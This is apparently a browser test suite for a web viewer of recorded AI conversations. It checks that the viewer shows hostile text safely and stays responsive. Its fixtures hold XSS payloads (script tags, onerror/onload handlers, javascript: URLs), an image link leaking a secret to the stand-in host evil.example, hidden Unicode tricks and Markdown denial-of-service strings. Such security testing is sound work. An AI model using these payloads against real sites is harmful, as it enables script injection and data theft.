// Texts that mean harm, in every field: nothing runs, nothing is loaded, nothing breaks the page.
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { withPage } from '../browser.mjs';
import { chunks, friendly, recording, timing } from '../fake/answers.mjs';
import { png } from '../fake/media.mjs';
import { fakeServer } from '../fake/server.mjs';

const away = 'https://evil.example';
const attacks = [
  `<script>document.title='run'</script><script src="${away}/x.js"></script>\n` +
  `<img src=x onerror="document.title='run'"><img src="${away}/i.png">\n` +
  `<svg onload="document.title='run'"><use href="${away}/s.svg#a"/></svg><math><mtext></mtext></math>\n` +
  `<iframe srcdoc="<script>parent.document.title='run'</script>"></iframe>\n` +
  `<style>body{display:none}</style><link rel=stylesheet href="${away}/c.css"><base href="${away}/"><meta http-equiv=refresh content="0;url=${away}">\n` +
  `&lt;script&gt;document.title='run'&lt;/script&gt; &#x3C;b id=broken&#x3E;x&#60;/b&#62; &amp;lt;b&amp;gt;`,
  `[click](javascript:document.title='run') [data](data:text/html,x) <javascript:alert(1)> [vb](vbscript:x) ![svg](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>)\n\n` +
  `![leak](${away}/leak.png?secret=1) [ref][1] ![img][1]\n\n[1]: ${away}/ref.png "t"\n\n${away}/auto a@evil.example [^1]\n\n` +
  `"><b id=broken>x</b>' onmouseover='alert(1)' \${7*7} {{7*7}}`,
  'right \u202Eto left\u202C \u2066isolate \u200Bzero\u200Bwidth \uFEFFbom \u2028line\u2029para \u00AD \u{E0041} pass\u200Cword ad\u200Dmin filler\u3164 \u115F joiner\u034F hidden\u{E0101}\u{E0102}\n' +
  'nul \u0000 bell \u0007 esc \u001b[31m \u001b]0;title\u0007 c1 \u009b del \u007f cr \r back \b\n' +
  'lone \ud800 surrogate \udfff pair \ud83d\ude00 👩‍👩‍👧‍👦\n' +
  `combining e${'\u0301'.repeat(5000)} end`,
  'عربي مع English و `code` 123 имя аpple.com', '__proto__', 'constructor', '%00%E0%A4%A', '#?&%/../..\\ $& $1 $`', ''.padEnd(300, 'W'), ''.padEnd(20_000, 'w'),
];

const hostile = (value, attack) => {
  if (typeof value === 'string') {
    return attack;
  }
  if (Array.isArray(value)) {
    return value.map((each) => hostile(each, attack));
  }
  return value && typeof value === 'object' ? Object.fromEntries(Object.entries(value).map(([key, each]) => [key, keep.has(key) ? each : hostile(each, attack)])) : value;
};

// what the page itself reads, and does not only show
const keep = new Set(['kind', 'side', 'what', 'show', 'seq', 'cursor', 'location', 'miss', 'id', 'at', 'recorded_at', 'newest_at', 'outcome']);

function routes(attack) {
  const friends = friendly({ on: { faults: { rules: [attack], tests: { [attack]: [attack] } }, pace: { rules: [], tests: {} } } });
  const all = {};
  for (const [name, route] of Object.entries(friends)) {
    all[name] = async (...parameters) => {
      const answer = await route(...parameters);
      return answer.raw !== undefined || /GET (faults|pace)/.test(name) ? answer : hostile(answer, attack);
    };
  }
  all['GET health'] = () => ({ status: attack, mode: attack });
  all['GET recordings/body'] = () => ({ raw: attack.toWellFormed(), type: 'text/plain; charset=utf-8' });
  all['GET recordings/copy'] = () => ({ as: attack, text: attack });
  all['GET recordings/messages'] = () => ({ messages: [{ index: 0, side: 'asked', role: attack, name: attack, finish_reason: attack, parts: everyKind(attack) }, { index: 1, side: 'answered', choice: 0, role: attack, finish_reason: attack, parts: everyKind(attack) }], total: 2, parts: 30, shown: 30 });
  all['GET recordings/chunks'] = () => ({ ...timing, tokens_are: attack, chunks: chunks(20).map((chunk, index) => ({ ...chunk, kind: attack, text: index % 2 ? attack.slice(0, attack.length / 2) : attack.slice(attack.length / 2) })), total: 20 });
  all['GET recordings/media'] = () => ({ raw: png, type: 'image/png' });
  return all;
}

const everyKind = (text) => [
  { part: 0, kind: 'text', text, total: text.length }, { part: 1, kind: 'reasoning', text, total: text.length }, { part: 2, kind: 'refusal', text, total: 9 },
  { part: 3, kind: 'tool_call', id: text, name: text, arguments: text, is_json: false }, { part: 4, kind: 'tool_call', id: 'x', name: text, arguments: JSON.stringify({ [text]: text }), is_json: true },
  { part: 5, kind: 'tool_result', id: text, name: text, text, total: 5, is_error: true }, { part: 6, kind: 'tools', tools: [{ name: text, description: text, schema: { [text]: text } }] },
  { part: 7, kind: 'media', media_type: text, bytes: 5, is_here: false, url: text, show: null, transcript: text }, { part: 8, kind: 'media', media_type: 'image/svg+xml', bytes: 5, is_here: true, url: null, show: 'image' },
  { part: 9, kind: 'numbers', count: 8, norm: 1, first: [1, text, null] }, { part: 10, kind: 'table', columns: [text, text], rows: [[text, { a: text }], [1, null]] },
  { part: 11, kind: 'citation', title: text, url: text, text }, { part: 12, kind: 'other', json: { [text]: [text] }, where: text }, { part: 13, kind: text, [text]: text }, { part: 14, kind: 'media', media_type: text, bytes: 5, is_here: false, url: `${away}/p.png`, show: 'image' },
];

const place = encodeURIComponent(recording(1).location);
const visits = [['', '.live-rows .row'], [`#/live/${place}`, '.parts-count'], ['#/store', '.store-rows .row'], [`#/store/${place}?tab=stream`, 'canvas.plot'], [`#/store/${place}?tab=request`, '.raw-bytes'], [`#/store/${place}?tab=about`, '.about'], ['#/misses/1', '.miss'], [`#/diff?a=${place}&b=b`, '.hunk'], [`#/diff?a=${place}&b=b&tab=headers`, '.two'], ['#/diff?a_test=a&b_test=b', '.pair'], ['#/diff?a_revision=%3Cb%3E', '.pair'], ['#/faults', '.rule-group']];

async function visit(browser, attack) {
  const server = await fakeServer(routes(attack));
  try {
    await withPage(browser, server.url, async (page) => {
      for (const [hash, ready] of visits) {
        await page.evaluate((to) => (location.hash = to), hash || '#/live');
        await page.locator(`${ready}:visible`).first().waitFor();
        const now = await page.evaluate(() => ({ title: document.title, made: document.querySelectorAll('main script, main iframe, main style, main link, main base, main meta, main object, main embed, #broken, main [onerror], main [onload], main [onmouseover], main [style*=":"]:not([style^="--"])').length, links: [...document.querySelectorAll('a')].map((each) => each.getAttribute('href')).filter((each) => !each.startsWith('#/')), wide: document.documentElement.scrollWidth <= innerWidth, high: document.querySelector('.top').getBoundingClientRect().height < 60 }));
        assert.deepEqual({ ...now, title: /Reprise$/.test(now.title) }, { title: true, made: 0, links: [], wide: true, high: true }, `${hash} with ${JSON.stringify(attack.slice(0, 60))}`);
      }
      await page.evaluate(() => (location.hash = `#/store/${encodeURIComponent('x')}`));
      await page.keyboard.press('c');
      await page.keyboard.press('c');
    });
    assert.ok(server.asked.every((each) => !each.includes('evil.example/')));
  } finally {
    server.close();
  }
}

const oneMessage = (...parts) => () => ({ messages: [{ index: 0, side: 'answered', choice: 0, role: 'assistant', parts }], total: 1, parts: parts.length, shown: parts.length });

/** The page stays quick: this takes less than `most` ms, and the page answers afterwards. */
async function stays(browser, changed, hash, ready, test = () => {}) {
  const server = await fakeServer({ ...friendly(), ...changed });
  try {
    await withPage(browser, server.url + hash, async (page) => {
      await page.locator(ready).first().waitFor();
      await test(page, server);
      await page.keyboard.press('?');
      await page.getByRole('dialog').waitFor();
      assert.ok((await page.evaluate(() => document.querySelectorAll('*').length)) < 60_000, 'the page has too many elements');
    });
  } finally {
    server.close();
  }
}

const bombs = { quotes: '> '.repeat(10_000), 'quotes without spaces': '>'.repeat(10_000), stars: '*'.repeat(10_000), 'stars and letters': '*a '.repeat(10_000), 'stars and words': '**a *b '.repeat(20_000), brackets: '['.repeat(10_000), 'links that never end': '[a]('.repeat(10_000), ticks: '`'.repeat(5001) + 'a '.repeat(5000), 'ticks of each length': Array.from({ length: 300 }, (_, index) => '`'.repeat(index)).join(' '), 'a deep list': Array.from({ length: 500 }, (_, index) => `${'  '.repeat(index)}- x`).join('\n'), 'a wide table': `|${'a|'.repeat(5000)}\n|${'-|'.repeat(5000)}\n|${'b|'.repeat(5000)}`, 'a long table': `|a|b|\n|-|-|\n${'|x|y|\n'.repeat(20_000)}`, 'a fence that never ends': '```' + 'x'.repeat(1_000_000) + '\ncode', underscores: '_a_ __b '.repeat(9000), html: '<a '.repeat(20_000), entities: '&amp;'.repeat(20_000), definitions: '[x]: y\n'.repeat(9000), 'empty lines': '\n'.repeat(100_000), tildes: '~~a ~b '.repeat(9000), pipes: '|'.repeat(20_000), headings: '# a\n'.repeat(20_000), 'setext lines': 'a\n='.repeat(9000), rulers: '- '.repeat(20_000), numbers: '1. '.repeat(9000), addresses: 'http://a.b/c '.repeat(9000), escapes: '\\*'.repeat(40_000), breaks: 'a  \n'.repeat(20_000) };

export default {
  'a conversation saved as HTML has its texts as text, no script, and loads nothing': async (browser) => {
    const attack = '<script>window.hurt = 1</script><img src=x onerror="window.hurt = 1"></pre></style><a href="javascript:1">';
    const parts = [{ part: 0, kind: 'text', text: attack, total: attack.length }, { part: 1, kind: 'tool_call', id: attack, name: attack, arguments: JSON.stringify({ attack }), is_json: true }, { part: 2, kind: 'media', media_type: 'image/png', bytes: 90, is_here: true, show: 'image', url: null }, { part: 3, kind: 'media', media_type: attack, is_here: false, url: 'https://example.com/x.png' }, { part: 4, kind: 'other', where: attack, json: { attack } }, { part: 5, kind: 'text', text: 'begin', total: 10 }];
    const server = await fakeServer({ ...friendly(), 'GET recordings/messages': () => ({ messages: [{ index: 0, side: 'asked', role: attack, finish_reason: attack, parts }], total: 1, parts: 6, shown: 6 }), 'GET recordings/part': () => ({ text: '-last' }) });
    try {
      let html;
      await withPage(browser, `${server.url}#/store/${place}`, async (page) => {
        await page.locator('.parts-count').waitFor();
        const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Save as HTML' }).click()]);
        assert.match(download.suggestedFilename(), /^[\w.-]+\.html$/);
        html = await readFile(await download.path(), 'utf8');
      });
      assert.match(html, /default-src 'none'/);
      const context = await browser.newContext();
      const page = await context.newPage();
      const asked = [];
      page.on('request', (each) => asked.push(each.url()));
      await page.setContent(html);
      assert.equal(await page.locator('script, a, iframe, [onerror], link').count(), 0);
      assert.equal(await page.evaluate(() => window.hurt), undefined);
      assert.ok((await page.locator('pre').first().innerText()).includes(attack));
      assert.ok((await page.locator('article').innerText()).includes('begin-last'));
      assert.ok(await page.locator('img').evaluate((each) => each.naturalWidth > 0));
      assert.deepEqual(asked.filter((each) => !each.startsWith('data:')), []);
      await context.close();
    } finally {
      server.close();
    }
  },

  ...Object.fromEntries(attacks.map((attack, index) => [`every field says ${JSON.stringify(attack.slice(0, 34))} (${index + 1})`, (browser) => visit(browser, attack)])),

  'what cannot be seen is a mark, and what joins letters or emojis of other scripts is not': (browser) =>
    stays(browser, { 'GET recordings/messages': oneMessage({ part: 0, kind: 'text', text: 'pass\u200Cword ad\u200Dmin a\u3164b\u115Fc\u034Fd\u{E0101} \u202Eevil\u202C \u001b[31m\u0000', total: 50 }, { part: 1, kind: 'text', text: '👩‍👩‍👧‍👦 ❤️ क्‍ष می‌خواهم &lt;b&gt;', total: 30 }) }, `#/store/${place}`, '.parts-count', async (page) => {
      const [hidden, joined] = [page.locator('.text').nth(0), page.locator('.text').nth(1)];
      assert.deepEqual(await hidden.locator('.unseen').allTextContents(), ['U+200C', 'U+200D', 'U+3164', 'U+115F', 'U+034F', 'U+E0101', 'U+202E', 'U+202C', '␛', '␀']);
      assert.equal(await joined.locator('.unseen').count(), 0);
      assert.match(await joined.textContent(), /👩‍👩‍👧‍👦 ❤️ क्‍ष می‌خواهم &lt;b&gt;/);
    }),

  'Markdown that nests, or that never ends, does not keep the page busy': (browser) =>
    stays(browser, { 'GET recordings/messages': ({ location }) => (bombs[location] ? oneMessage({ part: 0, kind: 'text', text: bombs[location], total: bombs[location].length })() : oneMessage()()) }, '#/store', '.store-rows .row', async (page) => {
      for (const name of Object.keys(bombs)) {
        const begin = Date.now();
        await page.evaluate((to) => (location.hash = to), `#/store/${encodeURIComponent(name)}`);
        await page.locator('.parts-count', { hasText: '1 of 1' }).waitFor();
        assert.ok(Date.now() - begin < 20_000, `${name}: the page was busy for ${Date.now() - begin} ms`);
        await page.evaluate(() => (location.hash = '#/store'));
        await page.locator('.hint').waitFor();
      }
    }),

  'one line of 10 MB is cut, and more of it is loaded on request': (browser) => {
    const text = 'long '.repeat(2_000_000);
    let asked = 0;
    return stays(
      browser,
      { 'GET recordings/messages': oneMessage({ part: 0, kind: 'text', text: text.slice(0, 4000), total: text.length }), 'GET recordings/part': ({ offset, length }) => (asked++, { part: 0, text: text.slice(Number(offset), Number(offset) + Number(length)), offset: Number(offset), length: Number(length), total: text.length }) },
      `#/store/${place}`,
      '.parts-count',
      async (page) => {
        await page.getByRole('button', { name: /Show .* more of 10,000,000 characters/ }).click();
        await page.waitForFunction(() => document.querySelector('.text').textContent.length > 50_000);
        assert.equal(asked, 1);
      },
    );
  },

  'JSON of great depth and great width is shown in part': (browser) =>
    stays(browser, { 'GET recordings/messages': oneMessage({ part: 0, kind: 'tool_call', id: 'a', name: 'deep', arguments: '['.repeat(100_000) + ']'.repeat(100_000), is_json: true }, { part: 1, kind: 'other', where: 'wide', json: Array.from({ length: 200_000 }, (_, index) => index) }, { part: 2, kind: 'tool_call', id: 'b', name: 'odd', arguments: '{"a":1,"a":2,"__proto__":{"x":1},"n":1e400,"i":12345678901234567890}', is_json: true }) }, `#/store/${place}`, '.parts-count', async (page) => {
      const shown = await page.locator('.tool', { hasText: 'odd' }).textContent();
      for (const word of ['1e400', '12345678901234567890', '__proto__', '"a": 2']) {
        assert.ok(shown.includes(word), `'${word}' is not shown: ${shown}`);
      }
      assert.match(shown, /"a": 1,/);
    }),

  '100,000 messages are shown page by page': (browser) =>
    stays(browser, { 'GET recordings/messages': ({ from, limit }) => ({ messages: Array.from({ length: Number(limit) }, (_, index) => ({ index: Number(from) + index, side: 'asked', role: 'user', parts: [{ part: Number(from) + index, kind: 'text', text: `message ${Number(from) + index}`, total: 12 }] })), total: 100_000, parts: 100_000, shown: 100_000 }) }, `#/store/${place}`, '.parts-count', async (page) => {
      assert.equal(await page.locator('.message').count(), 50);
      await page.getByRole('button', { name: /Show the next 50 of 99,950/ }).click();
      await page.waitForFunction(() => document.querySelectorAll('.message').length === 100);
      assert.match(await page.locator('.parts-count').innerText(), /parts shown 100 of 100,000/);
    }),

  '10,000 tools and 1,000 choices': (browser) =>
    stays(browser, { 'GET recordings/messages': ({ from }) => ({ messages: Number(from) === 0 ? [{ index: 0, side: 'asked', role: 'system', parts: [{ part: 0, kind: 'tools', tools: Array.from({ length: 10_000 }, (_, index) => ({ name: `tool_${index}`, description: 'x'.repeat(200), schema: {} })) }] }, ...Array.from({ length: 1000 }, (_, index) => ({ index: index + 1, side: 'answered', choice: index, role: 'assistant', parts: [{ part: index + 1, kind: 'text', text: `choice ${index}`, total: 9 }] }))] : [], total: 1001, parts: 1001, shown: 1001 }) }, `#/store/${place}`, '.parts-count', async (page) => {
      assert.equal(await page.locator('.choice').count(), 1000);
    }),

  'a stream of 200,000 chunks, all at once or out of order': async (browser) => {
    for (const at of [() => 5, (index) => (index * 7919) % 1000, (index) => index / 10]) {
      await stays(browser, { 'GET recordings/chunks': ({ from, limit }) => ({ ...timing, chunks: Array.from({ length: Number(limit) }, (_, index) => ({ index: Number(from) + index, at_ms: at(Number(from) + index), bytes: 1, kind: 'text', text: 'a' })), total: 200_000 }) }, `#/store/${place}?tab=stream`, 'canvas.plot', async (page) => {
        await page.getByText('the first 40,000 of 200,000').waitFor();
        await page.getByText('Table of the chunks').click();
        await page.locator('.chunk-rows .row').first().waitFor();
        await page.keyboard.press('p');
        await page.keyboard.press('p');
      });
    }
  },

  'one chunk of 50 MB, and text that is split within a character': (browser) =>
    stays(browser, { 'GET recordings/chunks': () => ({ ...timing, chunks: [{ index: 0, at_ms: 1, bytes: 5e7, kind: 'text', text: 'x'.repeat(200_000) }, { index: 1, at_ms: 2, bytes: 2, kind: 'text', text: '\ud83d' }, { index: 2, at_ms: 3, bytes: 2, kind: 'text', text: '\ude00' }], total: 3 }) }, `#/store/${place}?tab=stream`, 'canvas.plot'),

  'media of another type than it says is not drawn': async (browser) => {
    for (const [raw, type] of [['<svg xmlns="http://www.w3.org/2000/svg" onload="document.title=1"/>', 'image/svg+xml'], ['<script>document.title=1</script>', 'text/html'], ['%PDF-1.7', 'application/pdf'], [Buffer.from('no picture'), 'image/png']]) {
      await stays(browser, { 'GET recordings/media': () => ({ raw, type }), 'GET recordings/messages': oneMessage({ part: 0, kind: 'media', media_type: 'image/png', bytes: 99, is_here: true, show: 'image', url: null }) }, `#/store/${place}`, '.not-loaded');
    }
  },

  'a recording that is gone while it is shown is said': (browser) =>
    stays(browser, { 'GET recordings/show': () => ({ status: 404, error: 'there is no recording of that name' }), 'DELETE recordings': () => ({ status: 404, error: 'there is no recording of that name' }) }, `#/store/${place}`, '.empty[role="alert"]', async (page) => {
      await page.getByText('is not in this store').first().waitFor();
    }),

  'answers that are no JSON, and a server that is gone': (browser) =>
    stays(browser, { 'GET recordings': () => ({ raw: '<html>proxy error', type: 'text/html' }), 'GET tests': () => ({ raw: '{"tests":', type: 'application/json' }) }, '#/store', '.problem', async (page, server) => {
      server.close();
      await page.getByRole('link', { name: 'Misses' }).click();
      await page.getByText('the server does not answer').first().waitFor();
    }),

  'addresses that nobody wrote': async (browser) => {
    for (const hash of ['#/nothing', '#/store/%E0%A4%A', '#//////', '#/live/%3Cscript%3E', '#/store?filter=%00&sort=__proto__&tab=constructor', '#/misses/NaN', '#/diff?a=%2F..%2F..&tab=__proto__', '#/live/request:__proto__', '#javascript:alert(1)']) {
      await stays(browser, {}, hash, '.top');
    }
  },

  'names of files with #, ?, % and line feeds stay what they are': async (browser) => {
    const location = 'a#b?c%41&d/\n"é\u202E.json';
    const asked = [];
    await stays(browser, { 'GET recordings': () => ({ recordings: [{ ...recording(1), location }], broken: [], total: 1, cursor: null, complete: true }), 'GET recordings/show': ({ location: name }) => (asked.push(name), { ...recording(1), location: name }) }, '#/store', '.store-rows .row', async (page) => {
      await page.locator('.store-rows .row').first().click();
      await page.locator('.detail h2').waitFor();
      assert.deepEqual(asked, [location]);
    });
  },
};

